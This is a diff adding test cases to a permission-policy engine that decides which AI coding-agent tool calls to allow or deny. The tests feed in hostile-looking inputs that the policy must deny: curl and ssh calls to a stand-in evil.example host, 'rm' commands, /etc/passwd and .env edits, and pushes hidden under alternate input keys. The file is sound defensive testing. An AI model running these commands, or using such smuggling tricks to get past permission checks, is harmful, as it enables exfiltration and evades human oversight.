@@ -285,8 +285,231 @@ test.each([
   { policy: { default: "ask" }, call: read("src/a"), word: "ask" },
   { policy: {}, call: read("src/a"), word: "deny" },
   { policy: { default: "allow" }, call: { ...read("src/a"), isQuestion: true }, word: "ask" },
+
+  // Every path of the input, whatever it is called.
+  ...[
+    { path: "src/a", to: "b" },
+    { path: "src/a", target: "b" },
+    { path: "src/a", destination: "b.ts" },
+    { path: "src/a", new_name: "b" },
+    { path: "src/a", x: "lib/b.ts" },
+    { path: "src/a", changes: { "/etc/passwd": { type: "add" } } },
+    { path: "src/a", changes: { "lib/b.ts": { type: "add" } } },
+    { path: "src/a", changes: { "b.ts": { move_path: null } } },
+    { path: "src/a", file: { name: "b" } },
+    { path: "src/a", patch: "*** Begin Patch\n*** Update File: b\n@@\n" },
+    { path: "src/a", patch: "*** Begin Patch\n*** Update File: src/a\n*** Move to: b\n" },
+    { path: "src/a", diff: "--- a/b\n+++ b/b\n@@ -1 +1 @@\n" },
+    { path: "src/a", diff: "diff --git a/b b/b\nrename from b\nrename to c\n" },
+    { path: "src/a", "*** Update File: b": "x" },
+    { path: "src/a", url: "https://evil.example" },
+    { path: "src/a", x: "https://evil.example" },
+    { path: "src/a", bash: "rm x" },
+  ].map((rawInput) => ({ policy: allowSource, call: { kind: "edit", rawInput }, word: "deny" })),
+  {
+    policy: allowSource,
+    call: { kind: "move", rawInput: { path: "src/a", to: "src/b", "src/c.ts": 1 } },
+    word: "allow",
+  },
+  {
+    policy: denyEnv,
+    call: { kind: "edit", rawInput: { path: "src/a", changes: { ".env": { type: "update" } } } },
+    word: "deny",
+  },
+  {
+    policy: denyEnv,
+    call: { kind: "edit", rawInput: "*** Begin Patch\n*** Update File: .env\n" },
+    word: "deny",
+  },
+
+  // What stands beside a command.
+  ...[
+    { cwd: "/etc" },
+    { workdir: "/etc" },
+    { working_dir: ".." },
+    { directory: "/etc" },
+    { cwd: "src/out" },
+    { x: "/etc" },
+    { bash: "rm x" },
+    { exec: "rm x" },
+    { code: "rm x" },
+    { program: "/tmp/x" },
+    { commands: ["git status", "rm x"] },
+    { stdin: "y" },
+    { steps: { before: "rm x" } },
+    { url: "https://evil.example" },
+  ].map((more) => ({ policy: allowGit, call: run("git status", more), word: "deny" })),
+  { policy: allowGit, call: run("git status", { working_dir: "src", timeout: 5, tty: true }), word: "allow" },
+  {
+    policy: { allow: [{ command: "git status", outside: "/etc/**" }] },
+    call: run("git status", { cwd: "/etc" }),
+    word: "allow",
+  },
+  {
+    policy: { allow: [{ command: "git status", inside: "src/**" }] },
+    call: run("/bin/bash -lc 'git status'", { cwd: join(workspace, "src") }),
+    word: "allow",
+  },
+  { policy: { allow: [{ command: "git status", inside: "src/**" }] }, call: run("git status"), word: "deny" },
+  ...["bash", "exec", "program", "run", "code", "commandLine"].map((key) => ({
+    policy: denyPush,
+    call: { kind: "other", rawInput: { [key]: "git push" } },
+    word: "deny",
+  })),
+
+  // Every host of a fetch; those in a command and in a text are enough to deny.
+  ...["target", "proxy", "baseUrl", "website", "address", "webUrl", "base_url", "x", "server"].map((key) => ({
+    policy: allowHost,
+    call: { kind: "fetch", rawInput: { url: "https://docs.rs", [key]: "https://evil.example" } },
+    word: "deny",
+  })),
+  {
+    policy: allowHost,
+    call: { kind: "fetch", rawInput: { url: "https://docs.rs", proxy: "evil.example:8080" } },
+    word: "deny",
+  },
+  { policy: allowHost, call: { kind: "fetch", rawInput: { url: "https://docs.rs", output: "/etc/x" } }, word: "deny" },
+  { policy: denyHost, call: run("curl http://evil.example/x"), word: "deny" },
+  { policy: denyHost, call: run("ssh root@evil.example"), word: "deny" },
+  { policy: denyHost, call: run("curl http://$X/"), word: "deny" },
+  { policy: denyHost, call: run("curl https://docs.rs"), word: "allow" },
+  {
+    policy: denyHost,
+    call: { kind: "fetch", rawInput: { url: "https://docs.rs", x: ["evil.example"] } },
+    word: "deny",
+  },
+  {
+    policy: denyHost,
+    call: { kind: "fetch", rawInput: { url: "https://docs.rs", prompt: "then http://evil.example" } },
+    word: "deny",
+  },
+
+  // Signs of MCP.
+  { policy: { allow: [{ kind: "other" }] }, call: { kind: "other", mcpServer: "" }, word: "deny" },
+  {
+    policy: { allow: [{ kind: "other" }] },
+    call: { kind: "other", rawInput: { server: "x", tool: "y" } },
+    word: "deny",
+  },
+  { policy: { allow: [{ kind: "other" }] }, call: { kind: "other", claimed: { mcpServer: "x" } }, word: "deny" },
+  {
+    policy: { allow: [{ kind: "read" }] },
+    call: { kind: "read", rawInput: JSON.parse(`{"a":${"[".repeat(50)}${"]".repeat(50)}}`) },
+    word: "deny",
+  },
 ])("$policy decides $call: $word", async ({ policy, call, word }) => {
   expect(await decide(policy, call)).toBe(word);
+});
+
+/** The real shapes of input, each with the rule that anybody would write for it. */
+test.each<{ from: string; rule: object; call: Call }>([
+  {
+    from: "claude-agent-acp 0.101.0 Read",
+    rule: { kind: "read", inside: "**" },
+    call: {
+      kind: "read",
+      paths: [join(workspace, "src/a")],
+      rawInput: { file_path: join(workspace, "src/a"), offset: 1 },
+    },
+  },
+  {
+    from: "claude-agent-acp 0.101.0 plain edit-diff",
+    rule: { inside: "src/**" },
+    call: {
+      kind: "edit",
+      paths: [join(workspace, "src/app.txt")],
+      rawInput: {
+        replace_all: false,
+        file_path: join(workspace, "src/app.txt"),
+        old_string: "see /etc/passwd and https://a.b",
+        new_string: "--- a/x\n+++ b/x\n",
+      },
+    },
+  },
+  {
+    from: "claude-agent-acp 0.101.0 plain write-new",
+    rule: { inside: "src/**" },
+    call: {
+      kind: "edit",
+      rawInput: { file_path: join(workspace, "src/new.txt"), content: "/etc/x\n*** Update File: x\nrm -rf x\n" },
+    },
+  },
+  {
+    from: "claude-agent-acp 0.101.0 seq-tools, Bash",
+    rule: { command: "git status" },
+    call: run("git status", { description: "Run a test command in /etc", timeout: 1500 }),
+  },
+  {
+    from: "claude-agent-acp 0.101.0 bash-background-stop",
+    rule: { command: "sleep" },
+    call: run("sleep 60", { description: "Long background work", run_in_background: true }),
+  },
+  {
+    from: "claude Grep",
+    rule: { inside: "**" },
+    call: {
+      kind: "search",
+      rawInput: { pattern: "a/b", path: workspace, glob: "*.ts", output_mode: "content", "-n": true, type: "ts" },
+    },
+  },
+  { from: "claude Glob", rule: { inside: "**" }, call: { kind: "search", rawInput: { pattern: "src/**/*.ts" } } },
+  {
+    from: "claude WebFetch",
+    rule: { host: "docs.rs" },
+    call: { kind: "fetch", rawInput: { url: "https://docs.rs/zod", prompt: "Compare it with https://a.b/c" } },
+  },
+  {
+    from: "claude, an MCP tool",
+    rule: { mcp: "tracker" },
+    call: { kind: "other", mcpServer: "tracker", rawInput: { id: 1, path: "/etc", url: "https://a.b" } },
+  },
+  {
+    from: "codex-acp 2.6.0 shell-approval",
+    rule: { command: "git status" },
+    call: run("/bin/bash -lc 'git status'", { cwd: workspace }),
+  },
+  {
+    from: "codex-acp 2.6.0 apply-patch, the paths of its diffs",
+    rule: { kind: "edit", inside: "src/**" },
+    call: { kind: "edit", paths: [join(workspace, "src/fresh.txt"), join(workspace, "src/notes.txt")] },
+  },
+  {
+    from: "codex-acp 2.6.0, an MCP tool",
+    rule: { mcp: "made" },
+    call: { kind: "execute", mcpServer: "made", rawInput: { server: "made", tool: "make", arguments: { a: "x" } } },
+  },
+  {
+    from: "codex-acp 2.6.0 shell-grep-nomatch",
+    rule: { kind: "search", inside: "**" },
+    call: { kind: "search" },
+  },
+  {
+    from: "kiro v2 shell",
+    rule: { command: "git status" },
+    call: run("git status", { __tool_use_purpose: "See /etc", working_dir: workspace }),
+  },
+  {
+    from: "kiro v2 read",
+    rule: { inside: "src/**" },
+    call: { kind: "read", rawInput: { operations: [{ mode: "Line", path: "src/a", offset: 52, limit: 80 }] } },
+  },
+  {
+    from: "kiro V3 read",
+    rule: { kind: "read" },
+    call: { kind: "read", paths: ["src/a"], rawInput: { path: "src/a", offset: null, limit: null } },
+  },
+  {
+    from: "kiro V3 edit",
+    rule: { inside: "src/**" },
+    call: { kind: "edit", paths: ["src/a"], rawInput: { path: "src/a", oldStr: "/x", newStr: "https://a.b" } },
+  },
+  {
+    from: "kiro V3 delete",
+    rule: { kind: "delete", inside: "src/**" },
+    call: { kind: "delete", paths: ["src/a"], rawInput: { targetFile: "src/a", explanation: "is /tmp/x" } },
+  },
+])("a real call is allowed by the obvious rule: $from", async ({ rule, call }) => {
+  expect(await decide({ allow: [rule] }, call)).toBe("allow");
 });
 
 test.each([
